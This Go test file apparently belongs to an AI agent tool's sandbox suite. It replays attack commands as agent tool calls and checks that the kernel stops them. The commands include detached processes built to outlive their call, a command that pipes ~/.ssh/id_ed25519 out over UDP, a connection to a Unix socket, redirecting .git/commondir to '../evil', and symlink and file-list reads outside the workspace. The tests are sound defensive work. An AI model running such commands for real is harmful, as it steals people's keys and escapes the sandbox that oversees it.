//go:build linux

package cli

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"agentdesk/backend/sandbox"
	"agentdesk/backend/store"
)

// These replay, through `agentdesk run --script` in Full access, what the kernel must hold
// where the gate cannot see: processes that outlive their call, channels other than TCP, the
// person's secrets outside the workspace, and git metadata that runs code later.

func requireNamespaces(t *testing.T) {
	t.Helper()
	if st := sandbox.Status(); !st.Namespaces {
		t.Fatalf("namespaces should work on these machines: %s", st.Reason)
	}
}

// Processes that leave the shell's group (setsid -f, a Python child calling os.setsid) end with
// their call: nothing writes into the workspace after the turn.
func TestAttackProcessesDoNotOutliveTheirCall(t *testing.T) {
	requireNamespaces(t)
	d, ws := t.TempDir(), t.TempDir()
	results := runAttack(t, d, ws, attack{permission: "full", calls: []map[string]any{
		bash("setsid -f sh -c 'sleep 2; echo late > late-setsid'; echo started"),
		bash(`python3 -c 'import os, time, sys
if os.fork() == 0:
    os.setsid(); time.sleep(2); open("late-python", "w").write("late"); sys.exit(0)
print("started")'`),
	}})
	if len(results) != 2 || !strings.Contains(results[0], "started") || !strings.Contains(results[1], "started") {
		t.Fatalf("the commands did not run, so the test proves nothing: %q", results)
	}
	time.Sleep(2500 * time.Millisecond)
	for _, f := range []string{"late-setsid", "late-python"} {
		if exists(filepath.Join(ws, f)) {
			t.Errorf("a process outlived its call and wrote %s", f)
		}
	}
}

// UDP to a listener on the host, a Unix socket outside the workspace, and ~/.ssh carry nothing
// out of a command, even in Full access.
func TestAttackOtherChannelsCarryNothing(t *testing.T) {
	requireNamespaces(t)
	d, ws := t.TempDir(), t.TempDir()
	home := t.TempDir()
	t.Setenv("HOME", home)
	mustWrite(t, filepath.Join(home, ".ssh", "id_ed25519"), "PRIVATE KEY")
	// The gate would refuse these commands for naming ~/.ssh (the sensitive paths list); with
	// the list emptied they run, and it is the kernel that must hold.
	withStore(t, d, func(st *store.Store) {
		if err := st.SetSensitivePaths([]string{}); err != nil {
			t.Fatal(err)
		}
	})
	udp, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	sock := filepath.Join(t.TempDir(), "docker.sock")
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	got := make(chan string, 1)
	go func() {
		if c, err := ln.Accept(); err == nil {
			buf := make([]byte, 64)
			n, _ := c.Read(buf)
			got <- string(buf[:n])
			c.Close()
		}
	}()
	port := udp.LocalAddr().(*net.UDPAddr).Port
	results := runAttack(t, d, ws, attack{permission: "full", calls: []map[string]any{
		bash(fmt.Sprintf("cat ~/.ssh/id_ed25519 > /dev/udp/127.0.0.1/%d; echo ran-udp", port)),
		bash(fmt.Sprintf(`python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect("%s"); s.send(b"x")'; echo ran-unix`, sock)),
		bash("cat ~/.ssh/id_ed25519; ls /run/user; echo ran-ssh"),
	}})
	if len(results) != 3 || !strings.Contains(strings.Join(results, ""), "ran-ssh") {
		t.Fatalf("the commands did not run, so the test proves nothing: %q", results)
	}
	if strings.Contains(strings.Join(results, "\n"), "PRIVATE KEY") {
		t.Errorf("~/.ssh was read: %q", results)
	}
	_ = udp.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
	if n, _, err := udp.ReadFrom(make([]byte, 64)); err == nil {
		t.Errorf("a %d-byte UDP datagram left the sandbox", n)
	}
	select {
	case msg := <-got:
		t.Errorf("a Unix socket outside the workspace was reached (%q)", msg)
	case <-time.After(100 * time.Millisecond):
	}
}

// In Full access, a shell command cannot point git at code it controls through the parts of .git
// that are not hooks or config (commondir, the index, modules): all of .git is read-only, and a
// git command that changes it asks (declined here, without a terminal).
func TestAttackGitMetadataIsReadOnlyInFull(t *testing.T) {
	requireNamespaces(t)
	if _, err := exec.LookPath("git"); err != nil {
		t.Fatal("git is needed for this test: install git")
	}
	d, ws := t.TempDir(), t.TempDir()
	gitInit(t, ws)
	results := runAttack(t, d, ws, attack{permission: "full", calls: []map[string]any{
		bash("echo ../evil > .git/commondir; echo tried"),
		bash("cp /dev/null .git/index; echo tried"),
		bash("git commit --allow-empty -m planted"),
	}})
	if exists(filepath.Join(ws, ".git", "commondir")) {
		t.Fatalf("a command wrote .git/commondir: %q", results)
	}
	if !strings.Contains(results[0], "tried") || !strings.Contains(results[0], "Read-only") {
		t.Fatalf("the write was not refused by the kernel: %q", results)
	}
	if out, _ := exec.Command("git", "-C", ws, "log", "--oneline").CombinedOutput(); strings.Contains(string(out), "planted") {
		t.Fatalf("a commit ran without the git escalation: %q", results)
	}
}

// A path deny rule holds against a script the gate cannot read: the sandbox hides what the rule
// covers, so `bash build.sh` reading secrets/ finds nothing there, while the rest of the
// workspace stays visible.
func TestAttackDenySecretsThroughAScript(t *testing.T) {
	requireNamespaces(t)
	d, ws := denyWorkspace(t)
	mustWrite(t, filepath.Join(ws, "build.sh"), "cat README.md; cat secrets/key.pem\n")
	results := runAttack(t, d, ws, attack{permission: "full", calls: []map[string]any{bash("bash build.sh")}})
	if strings.Contains(results[0], "PRIVATE-KEY-MATERIAL") {
		t.Fatalf("a script read the denied file: %q", results)
	}
	if !strings.Contains(results[0], "readme") {
		t.Fatalf("the script did not run, so the test proves nothing: %q", results)
	}
}

// Auto's read-only commands run unasked; links committed in the repository and file lists that
// point out of the workspace still read nothing there: the kernel confines those calls' reads
// to the workspace and the toolchain.
func TestAttackAutoReadsStayInTheWorkspace(t *testing.T) {
	requireNamespaces(t)
	d, ws := t.TempDir(), t.TempDir()
	outside := t.TempDir()
	mustWrite(t, filepath.Join(outside, "id_ed25519"), "PRIVATE KEY\n")
	mustWrite(t, filepath.Join(outside, "src", "main.go"), "PRIVATE KEY\n")
	gitInit(t, ws)
	mustWrite(t, filepath.Join(ws, "README.md"), "readme\n")
	mustWrite(t, filepath.Join(ws, "docs", "main.go"), "public\n")
	if err := os.Symlink(filepath.Join(outside, "id_ed25519"), filepath.Join(ws, "key")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(outside, "src"), filepath.Join(ws, "src2")); err != nil {
		t.Fatal(err)
	}
	mustWrite(t, filepath.Join(ws, "f0"), filepath.Join(outside, "id_ed25519")+"\x00")
	gitIn(t, ws, "add", "README.md")
	gitIn(t, ws, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "init")
	results := runAttack(t, d, ws, attack{permission: "auto", calls: []map[string]any{
		bash("git blame --contents=key README.md"), bash("diff docs src2"),
		bash("find -files0-from f0"), bash("du -a --files0-from=f0"), bash("cat README.md")}})
	if !strings.Contains(results[len(results)-1], "readme") {
		t.Fatalf("a read-only command did not run, so the test proves nothing: %q", results)
	}
	for i, r := range results {
		// A file list's own error names the path it could not reach; only a success shows more.
		if strings.Contains(r, "PRIVATE KEY") || strings.Contains(r, outside) && !strings.Contains(r, "No such file") {
			t.Errorf("call %d read outside the workspace: %q", i, r)
		}
	}
}
